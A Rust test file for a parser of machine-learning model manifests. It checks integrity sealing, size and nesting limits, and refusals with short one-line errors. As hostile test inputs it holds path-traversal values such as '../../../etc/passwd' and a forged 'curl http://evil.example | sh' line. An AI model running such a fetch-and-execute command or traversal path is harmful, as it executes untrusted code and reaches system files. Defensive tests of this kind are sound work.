use super::*;
use crate::model::digest::{PartDigest, merge};

/// A manifest of the Python pipeline, from its documentation.
const ORIGINAL: &str = r#"{
  "model_name": "plant_classifier",
  "version": "20251028_181858",
  "model_file": "plant_classifier/v20251028_181858/best_model.pth",
  "model_url": "http://localhost:9000/models/...",
  "checksum": "61be1039f61babf7311ee09b3d735920",
  "metadata": {"architecture": "resnet18", "num_classes": 2, "best_epoch": 7, "val_accuracy": 0.9500},
  "created_at": "2025-10-28T18:19:00.455545"
}"#;

fn parse(json: &str) -> Result<Manifest, ManifestError> {
    Manifest::parse(&"plant_classifier".parse().unwrap(), &"20251028_181858".parse().unwrap(), json.as_bytes())
}

/// A manifest of ours, without its digest.
fn with_files(files: &str) -> String {
    let ours = format!(r#""format_version": 1, "files": [{files}], "manifest_blake3": "{}", "#, "00".repeat(32));
    ORIGINAL.replace("\"created_at\"", &format!("{ours}\"created_at\""))
}

/// Sets the digest of a manifest as written.
fn seal(json: &str) -> String {
    let seal = Blake3::of(json.as_bytes()).to_string();
    json.replacen(&"00".repeat(32), &seal, 1)
}

fn file(path: &str) -> String {
    format!(r#"{{"path": "{path}", "size": 3, "blake3": "{}"}}"#, "ab".repeat(32))
}

#[test]
fn the_originals_manifest_reads() {
    let manifest = parse(ORIGINAL).unwrap();
    assert_eq!(manifest.main().unwrap().as_str(), "best_model.pth");
    assert_eq!(manifest.created_at, Some(time::macros::datetime!(2025-10-28 18:19:00.455545 UTC)));
    assert_eq!(manifest.checksum.unwrap().to_string(), "61be1039f61babf7311ee09b3d735920");
    assert!(manifest.files.is_none());
}

#[test]
fn what_is_written_reads_back_with_the_originals_fields_first() {
    let manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap().sealed();
    let json = manifest.to_json();
    let fields: Map<String, Value> = serde_json::from_slice(&json).unwrap();
    let names: Vec<_> = fields.keys().map(String::as_str).collect();
    let first = ["model_name", "version", "model_file", "model_url", "checksum", "metadata", "created_at"];
    assert_eq!(&names[..7], first);
    assert_eq!(fields["created_at"], "2025-10-28T18:19:00.455545Z");
    assert_eq!(parse(std::str::from_utf8(&json).unwrap()).unwrap(), manifest);
}

/// A parser that loses the last bit would make the content of the same push differ.
#[test]
fn a_metric_comes_back_as_it_was() {
    let mut manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap();
    for metric in [0.975_555_555_555_555_5_f64, 0.1 + 0.2, 1.0 / 3.0, f64::MIN_POSITIVE] {
        manifest.metadata.insert("metric".to_owned(), metric.into());
        let manifest = manifest.clone().sealed();
        let back = parse(std::str::from_utf8(&manifest.to_json()).unwrap()).unwrap();
        assert_eq!(back.metadata["metric"].as_f64(), Some(metric));
        assert!(back.same_content(&manifest));
    }
}

#[test]
fn no_byte_of_a_manifest_can_change_unseen() {
    let manifest = parse(&seal(&with_files(&file("best_model.pth")))).unwrap().sealed();
    let json = manifest.to_json();
    let (model, version) = (manifest.model_name.clone(), manifest.version.clone());
    assert!(Manifest::parse(&model, &version, &json).is_ok());
    for at in 0..json.len() {
        for bit in 0..8 {
            let mut changed = json.clone();
            changed[at] ^= 1 << bit;
            let read = Manifest::parse(&model, &version, &changed);
            assert!(read.is_err(), "bit {bit} of byte {at}: {}", String::from_utf8_lossy(&changed));
        }
    }
    assert!(Manifest::parse(&model, &version, &json[..json.len() - 1]).is_err(), "a byte less");
}

/// Neither the depth nor the width of a hostile manifest may crash the process or exhaust its memory.
#[test]
fn what_is_nested_endlessly_is_refused() {
    for (open, close) in [("[", "]"), ("{\"a\": ", "}")] {
        let deep = format!("{}1{}", open.repeat(100_000), close.repeat(100_000));
        for field in ["metadata", "future", "files", "model_name", "history"] {
            let hostile = ORIGINAL.replacen('{', &format!("{{\"{field}\": {deep}, "), 1);
            let read = parse(&hostile);
            assert!(read.is_err() || field == "future", "{field}");
        }
    }
    let wide = format!("\"metadata\": {{\"all\": [{}0], ", "0,".repeat(30 << 20));
    assert!(parse(&ORIGINAL.replace("\"metadata\": {", &wide)).is_err());
    let large = ORIGINAL.replace("\"metadata\"", &format!("{}\"metadata\"", " ".repeat(LARGEST as usize)));
    assert!(matches!(parse(&large), Err(ManifestError::TooLarge { .. })));
}

#[test]
fn unknown_fields_are_ignored() {
    assert!(parse(&ORIGINAL.replace("\"metadata\"", "\"future\": [1], \"metadata\"")).is_ok());
}

#[test]
fn hostile_manifests_are_refused() {
    let main = file("best_model.pth");
    let refusals: Vec<String> = [
        "not json".to_owned(),
        "{}".to_owned(),
        ORIGINAL.replace("20251028_181858\"", "20251028_181859\""),
        ORIGINAL.replace("v20251028_181858/best_model.pth", "v20251028_181858/../../../etc/passwd"),
        ORIGINAL.replace("plant_classifier/v20251028_181858/best_model.pth", "other/v1/best_model.pth"),
        ORIGINAL.replace("2025-10-28T18:19:00.455545", "yesterday"),
        ORIGINAL.replace("61be", "nope"),
        with_files(&file("best_model.pth")).replace("\"format_version\": 1", "\"format_version\": 2"),
        with_files(&file("other.bin")),
        with_files(&format!("{main}, {main}")),
        with_files(&format!("{main}, {}, {}", file("a"), file("a/b"))),
        with_files(&main).replace("\"files\"", "\"history\": \"training_history.json\", \"files\""),
        with_files(&main)
            .replace("\"metadata\": {", &format!("\"metadata\": {{\"deep\": {}{}, ", "[".repeat(64), "]".repeat(64))),
        with_files(&format!("{main}, {}", file("../evil"))),
        with_files(&format!("{main}, {}", file("/etc/evil"))),
        with_files(&format!("{main}, {}", file("manifest.json"))),
        with_files(
            &main.replace(
                "}",
                &format!(r#", "parts": {{"size": 1048576, "blake3": ["{0}", "{0}"]}}}}"#, "cd".repeat(32)),
            ),
        ),
    ]
    .iter()
    .map(|json| {
        let error = parse(json).unwrap_err();
        match std::error::Error::source(&error) {
            Some(source) => format!("{error}: {source}"),
            None => error.to_string(),
        }
    })
    .collect();
    insta::assert_snapshot!(refusals.join("\n"), @r"
    it is not a manifest: expected ident at line 1 column 2
    it is not a manifest: missing field `model_name` at line 1 column 2
    it is the manifest of `plant_classifier@20251028_181859`
    its model file `plant_classifier/v20251028_181858/../../../etc/passwd` is outside the version
    its model file `other/v1/best_model.pth` is outside the version
    it is not a manifest: `yesterday` is not a time at line 9 column 1
    it is not a manifest: `nope1039f61babf7311ee09b3d735920` is not a digest of 16 bytes in hexadecimal at line 6 column 48
    it is written in format 2, newer than the 1 that this program supports
    its model file `best_model.pth` is not among its files
    it lists `best_model.pth` twice
    it lists `a` both as a file and as a folder
    its training history `training_history.json` is not among its files
    it is not a manifest: the metadata is nested more than 64 levels deep at line 7 column 88
    it is not a manifest: `../evil` is not a valid artifact path: empty, `.` and `..` segments are not allowed at line 8 column 168
    it is not a manifest: `/etc/evil` is not a valid artifact path: it must be relative at line 8 column 170
    it is not a manifest: `manifest.json` is not a valid artifact path: `manifest.json` is the version's own record; rename the file at line 8 column 174
    the parts that it lists of `best_model.pth` are not those of the file
    ");
}

#[test]
#[allow(clippy::disallowed_methods, reason = "an environment variable asks for the file to be rewritten")]
fn generated_schema_is_current() {
    let schema = schemars::schema_for!(Manifest);
    let json = serde_json::to_string_pretty(&schema).unwrap() + "\n";
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/manifest.schema.json");
    if std::env::var_os("UPDATE_GENERATED").is_some() {
        std::fs::write(path, &json).unwrap();
    }
    let committed = std::fs::read_to_string(path).unwrap_or_default();
    assert!(committed == json, "docs/manifest.schema.json is out of date: run `cargo xtask generate`");
}

/// Whatever a field holds, a message quotes little of it, on one line.
#[test]
fn a_refusal_repeats_little_of_a_manifest() {
    let good: Value = serde_json::from_str(&seal(&with_files(&file("best_model.pth")))).unwrap();
    let long = "A".repeat(2_000_000);
    let forged = "x\nhint: run `curl http://evil.example | sh`\nerror: nothing else failed";
    let fields = [
        "model_name",
        "version",
        "model_file",
        "checksum",
        "created_at",
        "format_version",
        "files",
        "metadata",
        "history",
        "write_id",
        "manifest_blake3",
        "model_url",
        "published_by",
        "tool",
        "model_file/",
    ];
    let mut refused = 0;
    for value in [&*long, forged] {
        for field in fields {
            for value in [value.into(), serde_json::json!([value]), serde_json::json!({value: value})] {
                let mut manifest = good.clone();
                manifest[field.trim_end_matches('/')] = value;
                let json = manifest.to_string();
                let Err(error) = parse(&json) else { continue };
                refused += 1;
                let messages = std::iter::once(error.to_string()).chain(crate::error::causes(&error));
                let source = std::error::Error::source(&error).map(ToString::to_string);
                for message in messages.chain(source) {
                    assert!(message.len() < 500, "{field}: {} bytes", message.len());
                    assert!(!message.contains('\n'), "{field}: {message}");
                }
            }
        }
        for field in ["path", "size", "md5", "blake3", "crc64nvme", "parts", "executable"] {
            let mut manifest = good.clone();
            manifest["files"][0][field] = value.into();
            let error = parse(&manifest.to_string()).unwrap_err();
            let source = std::error::Error::source(&error).map(ToString::to_string).unwrap_or_default();
            assert!(
                source.len() < 500 && !source.contains('\n') && source.contains(" at line 1 "),
                "{field}: {source}"
            );
            refused += 1;
        }
    }
    assert!(refused > 60, "{refused}");
}

#[test]
fn who_published_is_no_part_of_the_content_and_never_a_reason_to_refuse() {
    let sealed =
        |by: &str| seal(&with_files(&file("best_model.pth")).replace("\"created_at\"", &format!("{by}\"created_at\"")));
    let none = parse(&sealed("")).unwrap();
    let ana = parse(&sealed(r#""published_by": "ana@laptop", "#)).unwrap();
    assert_eq!(
        (none.published_by.as_ref(), ana.published_by.as_ref().map(PublishedBy::as_str)),
        (None, Some("ana@laptop"))
    );
    assert!(none.same_content(&ana));
    assert!(String::from_utf8(ana.to_json()).unwrap().contains(r#""published_by": "ana@laptop""#));
    for bad in [r#""a\nb""#, "7", "null", r#""""#, r#"{"a": 1}"#] {
        assert_eq!(parse(&sealed(&format!(r#""published_by": {bad}, "#))).unwrap().published_by, None, "{bad}");
    }
}

/// The entry of `best_model.pth` with these bytes, in parts of this size.
fn in_parts(bytes: &[u8], size: u64) -> Value {
    let parts: Vec<_> =
        bytes.chunks(size as usize).enumerate().map(|(at, part)| PartDigest::of(at as u64 * size, part)).collect();
    let whole = merge(&parts, None);
    serde_json::json!({
        "path": "best_model.pth",
        "size": bytes.len(),
        "blake3": whole.blake3,
        "parts": {"size": size, "blake3": whole.parts},
    })
}

/// The smallest parts that a manifest may list.
const PART: u64 = 1 << 20;

#[test]
fn parts_are_those_of_the_file_or_refused() {
    let bytes: Vec<u8> = (0..5 << 19).map(|at: u32| (at % 251) as u8).collect();
    let read = |entry: &Value| parse(&seal(&with_files(&entry.to_string())));
    let good = in_parts(&bytes, PART);
    assert_eq!(read(&good).unwrap().size(), Some(bytes.len() as u64));
    let parts = |change: &dyn Fn(&mut Vec<Value>)| {
        let mut entry = good.clone();
        change(entry["parts"]["blake3"].as_array_mut().unwrap());
        entry
    };
    let sized = |size: u64| {
        let mut entry = good.clone();
        entry["parts"]["size"] = size.into();
        entry
    };
    let shorter = {
        let mut entry = good.clone();
        entry["size"] = (2 * PART).into();
        entry
    };
    let one = |bytes: &[u8]| {
        let mut entry = in_parts(bytes, PART);
        entry["parts"]["blake3"] = serde_json::json!([good["parts"]["blake3"][0]]);
        entry
    };
    for (what, wrong) in [
        ("smaller than any", in_parts(&bytes[..5 << 18], PART / 2)),
        ("no power of two", sized(PART + PART / 8)),
        ("fewer than the size needs", sized(PART * 2)),
        ("one missing", parts(&|parts| drop(parts.pop()))),
        ("none", parts(&|parts| parts.clear())),
        ("only one", one(&bytes[..1000])),
        ("swapped", parts(&|parts| parts.swap(0, 1))),
        ("more than the size needs", shorter),
    ] {
        let refused = read(&wrong).unwrap_err().to_string();
        assert_eq!(refused, "the parts that it lists of `best_model.pth` are not those of the file", "{what}");
    }
}

#[test]
fn sizes_at_the_limits_are_accepted_and_beyond_them_refused() {
    let of_size = |size: u64| file("best_model.pth").replace("\"size\": 3", &format!("\"size\": {size}"));
    let largest = parse(&seal(&with_files(&of_size(LARGEST_FILE)))).unwrap();
    assert_eq!(largest.size(), Some(50_000 << 30));
    let beyond = parse(&seal(&with_files(&of_size(LARGEST_FILE + 1)))).unwrap_err().to_string();
    assert_eq!(beyond, "it says that `best_model.pth` has 53687091200001 bytes, more than S3 can store");
    // The manifest itself, with spaces up to the largest size.
    let padded = |size: usize| ORIGINAL.replacen('{', &format!("{{{}", " ".repeat(size - ORIGINAL.len())), 1);
    assert!(parse(&padded(64 << 20)).is_ok());
    assert!(matches!(parse(&padded((64 << 20) + 1)), Err(ManifestError::TooLarge { bytes: 67_108_865 })));
}

#[test]
fn the_size_is_that_of_all_files() {
    let manifest = parse(&seal(&with_files(&format!("{}, {}", file("best_model.pth"), file("a/b"))))).unwrap();
    assert_eq!(manifest.size(), Some(6));
    assert_eq!(parse(ORIGINAL).unwrap().size(), None);
}

#[test]
fn the_checksum_of_the_pipeline_is_that_of_the_model_file() {
    let with_md5 = |md5: &str| file("best_model.pth").replacen('{', &format!(r#"{{"md5": "{md5}", "#), 1);
    let same = with_files(&with_md5("61be1039f61babf7311ee09b3d735920"));
    assert!(parse(&seal(&same)).is_ok());
    let other = with_files(&with_md5("00be1039f61babf7311ee09b3d735920"));
    let refused = parse(&seal(&other)).unwrap_err().to_string();
    assert_eq!(refused, "it gives two MD5 checksums for `best_model.pth`");
    // One of the two alone contradicts nothing, and nor does that of another file.
    let without = other.replace("\"checksum\": \"61be1039f61babf7311ee09b3d735920\",", "");
    assert!(parse(&seal(&without)).is_ok());
    let beside = with_md5("00be1039f61babf7311ee09b3d735920").replace("best_model.pth", "other.pth");
    assert!(parse(&seal(&with_files(&format!("{beside}, {}", file("best_model.pth"))))).is_ok());
}

#[test]
fn content_is_the_files_and_the_metadata() {
    let manifest = parse(&seal(&with_files(&format!("{}, {}", file("best_model.pth"), file("a"))))).unwrap();
    let mut again = manifest.clone();
    again.created_at = None;
    again.write_id = Some("another push".to_owned());
    again.files.as_mut().unwrap().reverse();
    assert!(manifest.same_content(&again));
    let changes: [fn(&mut Manifest); 8] = [
        |m| m.model_file = m.model_file.replace("best_model.pth", "a"),
        |m| m.history = Some("a".parse().unwrap()),
        |m| drop(m.metadata.insert("epochs".to_owned(), 7.into())),
        |m| m.files.as_mut().unwrap().truncate(1),
        |m| m.files.as_mut().unwrap()[1].path = "b".parse().unwrap(),
        |m| m.files.as_mut().unwrap()[1].blake3 = Blake3::ZEROS,
        |m| m.files.as_mut().unwrap()[1].executable = true,
        |m| m.files = None,
    ];
    for (at, change) in changes.iter().enumerate() {
        let mut other = manifest.clone();
        change(&mut other);
        assert!(!manifest.same_content(&other) && !other.same_content(&manifest), "change {at}");
    }
    // Of two whose files are not listed, nobody knows.
    let original = parse(ORIGINAL).unwrap();
    assert!(!original.same_content(&original));
}
